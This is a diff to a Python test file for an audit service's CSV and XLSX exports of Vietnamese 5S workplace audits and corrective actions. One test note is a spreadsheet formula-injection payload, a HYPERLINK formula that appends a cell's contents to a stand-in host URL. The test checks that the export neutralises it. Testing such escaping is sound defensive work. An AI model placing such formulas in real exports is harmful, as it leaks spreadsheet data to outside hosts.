@@ -25,6 +25,7 @@ from tests.assessment.conftest import (
     this_month,
     unit_at,
 )
+from tests.conftest import bearer
 
 pytestmark = [pytest.mark.nats, pytest.mark.postgres]
 
@@ -88,18 +89,90 @@ async def test_org_chart_from_csv(service) -> None:
     assert any(p["person_id"] == "p100" for p in events[0]["event"]["data"]["people"])
 
 
+#: The issue's cases, as typed: an auditor's note and a closing note that look like formulas.
+HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Xem minh chứng")'
+CLOSING = "== chưa đạt =="
+HEAD_VHXH = bearer("unit_head", "p017", "vhxh")
+S1_1 = (
+    "Bàn làm việc chỉ có tài liệu, vật dụng cần cho công việc hằng ngày; không để đồ cá nhân, "
+    "giấy tờ cũ, vật dụng hỏng."
+)
+
+
+def csv_rows(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
 async def test_exports_in_csv_and_xlsx(service) -> None:
-    answer = await service.http.post("/v1/audits", json=audit_body("vhxh", 1), headers=AUDITOR_KT)
+    body = audit_body("vhxh", 1)
+    body["items"][0]["note"] = HYPERLINK
+    performed = datetime.fromisoformat(body["performed_at"]).astimezone(LOCAL_TZ)
+    answer = await service.http.post("/v1/audits", json=body, headers=AUDITOR_KT)
     assert answer.status_code == 201
+    audit = answer.json()
+    first_action = audit["corrective_actions"][0]
+    closed = await service.http.post(
+        f"/v1/corrective-actions/{first_action}/close", json={"note": CLOSING}, headers=HEAD_VHXH
+    )
+    assert closed.status_code == 200, closed.text
     period = this_month()
+    month = f"tháng {period[5:]}/{period[:4]}"
     exported = await service.http.get(
         "/v1/exports/audits.csv", params={"period": period}, headers=ADMIN
     )
     assert exported.status_code == 200
     assert exported.headers["content-type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
-    assert rows[0][:4] == ["Mã phiếu", "Mã đơn vị", "Đơn vị", "Kỳ"]
-    assert len(rows) == 1 + 25 and {r[2] for r in rows[1:]} == {"Phòng Văn hóa - Xã hội"}
+    rows = csv_rows(exported.content)
+    assert rows[0] == [
+        "Mã phiếu",
+        "Đơn vị",
+        "Kỳ",
+        "Thời điểm đánh giá",
+        "Người đánh giá",
+        "Lần sửa",
+        "Trạng thái",
+        "Nhóm tiêu chí",
+        "Mã tiêu chí",
+        "Nội dung tiêu chí",
+        "Trọng số",
+        "Điểm (0–4, trống = không áp dụng)",
+        "Ghi chú",
+    ]
+    assert len(rows) == 1 + 25 and {r[1] for r in rows[1:]} == {"Phòng Văn hóa - Xã hội"}
+    # Names, not ids; the item's text beside its code; Vietnam time; the note as typed, made
+    # safe with the apostrophe spreadsheets read as "text".
+    assert rows[1] == [
+        audit["audit_id"],
+        "Phòng Văn hóa - Xã hội",
+        month,
+        performed.strftime("%d/%m/%Y %H:%M"),
+        "Trương Thị Kim Oanh",
+        "1",
+        "Hiệu lực",
+        "Sàng lọc",
+        "S1.1",
+        S1_1,
+        "1.0",
+        "1",
+        "'" + HYPERLINK,
+    ]
+    english = await service.http.get(
+        "/v1/exports/audits.csv",
+        params={"period": period},
+        headers={**ADMIN, "Accept-Language": "en"},
+    )
+    assert csv_rows(english.content)[0][:4] == ["Audit", "Unit", "Period", "Audited at"]
+    assert csv_rows(english.content)[1][1:3] == ["Culture and Society Division", period_en(period)]
+
+    book = await service.http.get(
+        "/v1/exports/audits.xlsx", params={"period": period}, headers=ADMIN
+    )
+    sheet = load_workbook(io.BytesIO(book.content)).active
+    assert sheet.title == "Phiếu đánh giá 5S"
+    note, moment = sheet["M2"], sheet["D2"]
+    assert note.value == HYPERLINK and note.data_type == "s"
+    assert moment.is_date and moment.value == performed.replace(tzinfo=None)
+    assert moment.number_format == "dd/mm/yyyy hh:mm"
 
     actions = await service.http.get(
         "/v1/exports/corrective-actions.xlsx", params={"period": period}, headers=ADMIN
@@ -107,14 +180,24 @@ async def test_exports_in_csv_and_xlsx(service) -> None:
     assert actions.status_code == 200
     sheet = load_workbook(io.BytesIO(actions.content)).active
     values = list(sheet.values)
-    assert values[0][:3] == ("Mã hành động", "Mã đơn vị", "Đơn vị")
-    assert len(values) == 1 + 25 and {v[9] for v in values[1:]} == {"Đang mở"}
+    assert sheet.title == "Biện pháp khắc phục"
+    assert values[0][:3] == ("Mã biện pháp", "Đơn vị", "Kỳ")
+    assert len(values) == 1 + 25 and {v[9] for v in values[1:]} == {"Đang mở", "Đã đóng"}
+    done = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == first_action)
+    assert [done[4].value, done[5].value, done[7].value] == ["S1.1", S1_1, "Đỗ Thị Phương Thảo"]
+    assert done[11].value == CLOSING and done[11].data_type == "s"
+    assert done[8].is_date and done[10].is_date
+    as_csv = await service.http.get(
+        "/v1/exports/corrective-actions.csv", params={"period": period}, headers=ADMIN
+    )
+    done_csv = next(r for r in csv_rows(as_csv.content) if r[0] == first_action)
+    assert done_csv[11] == "'" + CLOSING and done_csv[9] == "Đã đóng"
 
     # A unit head sees only their unit; staff see no export; bad periods are refused.
     head = await service.http.get(
         "/v1/exports/audits.csv", params={"period": period}, headers=HEAD_KT
     )
-    assert len(list(csv.reader(io.StringIO(head.content.decode("utf-8-sig"))))) == 1
+    assert len(csv_rows(head.content)) == 1
     assert (
         await service.http.get(
             "/v1/exports/audits.csv", params={"period": period}, headers=STAFF_KT
@@ -126,6 +209,10 @@ async def test_exports_in_csv_and_xlsx(service) -> None:
         "/v1/exports/audits.pdf", params={"period": period}, headers=ADMIN
     )
     assert unknown.status_code == 422
+
+
+def period_en(period: str) -> str:
+    return datetime.strptime(period, "%Y-%m").strftime("%B %Y")
 
 
 async def test_old_idempotency_keys_are_forgotten(service) -> None:
